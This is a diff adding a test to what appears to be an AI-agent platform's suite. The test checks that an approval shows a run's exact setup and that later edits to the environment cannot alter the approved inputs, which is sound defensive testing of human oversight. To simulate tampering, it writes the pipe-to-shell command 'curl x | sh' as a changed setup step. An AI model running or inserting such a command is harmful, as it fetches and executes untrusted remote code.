@@ -58,6 +58,43 @@ describe("a run that waits for approval", () => {
     expect(await turn(id)).toEqual(["and drop the tables"]);
   });
 
+  test("the approval shows what will be executed, and an edit of the environment does not reach it", async () => {
+    await require({ match: { principals: [annUid], actions: ["create"] } });
+    const environments = "/api/v1/agent/environments";
+    const config = { name: "shop", docker_image: "node:24", setup_commands: ["npm ci"] };
+    const { uid } = (await call(harness, environments, { body: { config } })).body;
+    const server = { command: "npx", args: ["-y", "wiki"], env: { TOKEN: "t" } };
+    const request = { environment_id: uid, mcp_servers: { wiki: server }, permission_policy: "ask" };
+    const id = await createRun(harness, { prompt: "Deploy", config: request }, { key: ann });
+    const plain = await createRun(harness, { prompt: "Deploy" }, { key: ann });
+    const seen = await approvalOf(id);
+
+    const changed = { config: { ...config, setup_commands: ["curl x | sh"] } };
+    await call(harness, `${environments}/${uid}`, { method: "PUT", body: changed });
+    const later = await approvalOf(id);
+    const decided = await decide(id, true, seen.inputs_hash);
+
+    expect(seen.executes).toMatchObject({
+      permission_policy: "ask",
+      environment_id: uid,
+      image: "node:24",
+      setup_commands: ["npm ci"],
+      network: "none",
+      mcp_servers: { wiki: { command: "npx", args: ["-y", "wiki"], env: ["TOKEN"] } },
+    });
+    expect(JSON.stringify(seen.details)).toMatch(
+      /Setup commands.*npm ci.*wiki: npx -y wiki, variables TOKEN/,
+    );
+    expect(seen.not_covered).toHaveLength(3);
+    expect((await approvalOf(plain)).inputs_hash).not.toBe(seen.inputs_hash);
+    expect([later, decided.body]).toEqual([seen, { state: "QUEUED" }]);
+    expect(await approvalOf(id)).toMatchObject({
+      decided: "approved",
+      decided_by: expect.any(String),
+      decided_at: expect.any(String),
+    });
+  });
+
   test("the run says who may approve it, to those who may not", async () => {
     await require({ match: { principals: [annUid], actions: ["create"] } });
     await allow({ match: { principals: [benUid], actions: ["approve"] } });
